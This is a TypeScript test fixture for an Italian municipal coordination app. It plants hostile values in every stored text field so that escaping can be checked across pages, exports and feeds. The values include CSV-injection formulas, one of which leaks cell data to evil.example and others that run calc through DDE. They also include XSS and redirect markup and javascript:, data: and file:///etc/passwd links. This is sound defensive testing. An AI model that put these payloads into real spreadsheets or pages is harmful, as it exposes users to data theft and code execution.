/**
 * Hostile input as an editor and a coordinator can type it: spreadsheet formulas, markup that would
 * redirect or run script if it became HTML, and link schemes that run code. The hostile-input suites
 * (server/hostile/*.test.ts, tests/browser/hostile.test.ts) store these through the real procedures and
 * look for them in every page, export and feed.
 */
import { eq } from 'drizzle-orm';
import type { Db } from '../../server/db/client';
import { organizations } from '../../server/db/schema';
import { callerAs, createTestUser } from '../../server/test-utils';

/** Text that a spreadsheet program would run as a formula (OWASP "CSV injection"). */
export const FORMULAS = {
  equals: '=HYPERLINK("https://evil.example/?leak="&A1;"Apri il documento")',
  plus: "+SUM(1+1)*cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: '@SUM(1+1)*cmd|" /C calc"!A0',
} as const;

/** Markup that would act if it were written as HTML: CSP stops scripts, not a refresh or an image. */
export const MARKUP = {
  refresh: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  image: '<img src="x" data-hostile="img" onerror="document.title=\'pwned\'">',
  script: '</script><script>window.__hostile=1</script><b data-hostile="b">bold</b>',
} as const;

/** Links that run code or show an attacker's page when followed. */
export const BAD_URLS = [
  'javascript:alert(document.domain)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
] as const;

/** What the fixture stored, to find it again in the outputs. */
export type HostileRecords = {
  organizationId: number;
  organizationSlug: string;
  siteSlug: string;
  eventId: number;
  eventSlug: string;
  bodySlug: string;
  /** The names as stored: the partner's (a formula) and its short name (markup, drawn on both maps). */
  name: string;
  shortName: string;
};

const TARGET = 'comune-di-trapani';

/**
 * Stores hostile values through the procedures, as Trapani's editor (its organisation, a service point,
 * a public contact) and as a coordinator (an event with its register, minutes, decision and action, a
 * body, a deliverable). Every text field an output shows gets one.
 */
export async function storeHostileValues(db: Db): Promise<HostileRecords> {
  const editor = await createTestUser(db, { role: 'editor', orgSlug: TARGET, totp: true });
  const coordinator = await createTestUser(db, { role: 'coordinator', orgSlug: 'comune-di-palermo', totp: true });
  const asEditor = callerAs(db, editor);
  const asCoordinator = callerAs(db, coordinator);
  const org = db.select().from(organizations).where(eq(organizations.slug, TARGET)).get()!;

  const name = `${FORMULAS.equals} ${MARKUP.image}`;
  const shortName = MARKUP.refresh;
  await asEditor.organizations.update({
    id: org.id,
    version: org.version,
    name,
    shortName,
    address: FORMULAS.plus,
    descriptionIt: `${MARKUP.script}\n${FORMULAS.minus}`,
    descriptionEn: MARKUP.image,
  });
  const site = await asEditor.sites.create({
    organizationId: org.id,
    slug: 'sportello-ostile',
    kind: 'help_desk',
    nameIt: `${FORMULAS.at} ${MARKUP.refresh}`,
    nameEn: MARKUP.image,
    province: 'IT-TP',
    city: 'Trapani',
    address: FORMULAS.minus,
    lat: 38.0176,
    lng: 12.5365,
    descriptionIt: MARKUP.script,
  });
  await asEditor.contacts.create({
    organizationId: org.id,
    label: FORMULAS.equals,
    function: MARKUP.image,
    kind: 'office',
    phone: '+39 0923 000000',
    visibility: 'public',
  });

  const event = await asCoordinator.events.create({
    slug: 'tavolo-ostile',
    type: 'technical_table',
    titleIt: `${FORMULAS.equals} ${MARKUP.refresh}`,
    titleEn: MARKUP.image,
    startsAt: '2023-02-01T15:00:00+01:00',
    endsAt: '2023-02-01T17:00:00+01:00',
    place: FORMULAS.plus,
    organizerNote: MARKUP.script,
    agendaIt: MARKUP.script,
    outcomeIt: FORMULAS.at,
    participantsNote: FORMULAS.minus,
    dateNote: MARKUP.image,
    status: 'held',
    isPublic: true,
  });
  await asCoordinator.attendance.record({
    eventId: event.id,
    lines: [{ organizationId: org.id, status: 'present', peopleCount: 2, delegateName: FORMULAS.at, notes: `${FORMULAS.minus} ${MARKUP.image}` }],
  });
  await asCoordinator.minutes.save({ eventId: event.id, textIt: `${MARKUP.script}\n\n${FORMULAS.equals}`, textEn: MARKUP.refresh });
  const decision = await asCoordinator.minutes.addDecision({ eventId: event.id, textIt: FORMULAS.equals, textEn: MARKUP.image });
  await asCoordinator.actions.create({
    eventId: event.id,
    titleIt: `${FORMULAS.plus} ${MARKUP.refresh}`,
    titleEn: MARKUP.image,
    ownerOrganizationId: org.id,
    decisionId: decision.id,
    dueDate: '2023-03-01',
  });
  await asCoordinator.bodies.create({
    slug: 'organismo-ostile',
    kind: 'other',
    nameIt: `${FORMULAS.minus} ${MARKUP.refresh}`,
    nameEn: MARKUP.image,
    descriptionIt: MARKUP.script,
  });
  await asCoordinator.activities.createDeliverable({
    titleIt: `${FORMULAS.at} ${MARKUP.image}`,
    titleEn: MARKUP.refresh,
    organizationId: org.id,
    dueDate: '2023-05-31',
    status: 'planned',
  });

  return {
    organizationId: org.id,
    organizationSlug: TARGET,
    siteSlug: site.slug,
    eventId: event.id,
    eventSlug: 'tavolo-ostile',
    bodySlug: 'organismo-ostile',
    name,
    shortName,
  };
}

/** A cell a spreadsheet program would read as a formula. */
export const isFormulaCell = (cell: string) => /^[=+\-@\t\r]/.test(cell);
